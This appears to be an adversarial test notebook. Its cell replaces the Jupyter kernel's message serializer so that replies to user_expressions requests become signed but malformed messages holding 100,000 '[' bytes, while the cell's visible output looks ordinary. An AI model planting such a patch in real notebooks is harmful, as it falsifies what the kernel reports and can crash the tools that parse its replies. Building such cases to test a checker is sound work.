# title = "What is asked about the parts of the kernel is answered with what can't be read"
# trace = "answers"
# alarm = "none of a kernel's messages"
# verdicts = { test_table = "failed" }
#
# %% table
import json

session = get_ipython().kernel.session
serialize = session.serialize


def forged(message, ident=None):
    if not message["content"].get("user_expressions"):
        return serialize(message, ident)
    names = ("header", "parent_header", "metadata")
    parts = [json.dumps(message[name], default=str).encode() for name in names]
    parts.append(b"[" * 100_000)
    return [*(ident or []), b"<IDS|MSG>", session.sign(parts), *parts]


session.serialize = forged
print("answers")
table = pd.DataFrame({"x": [0]})
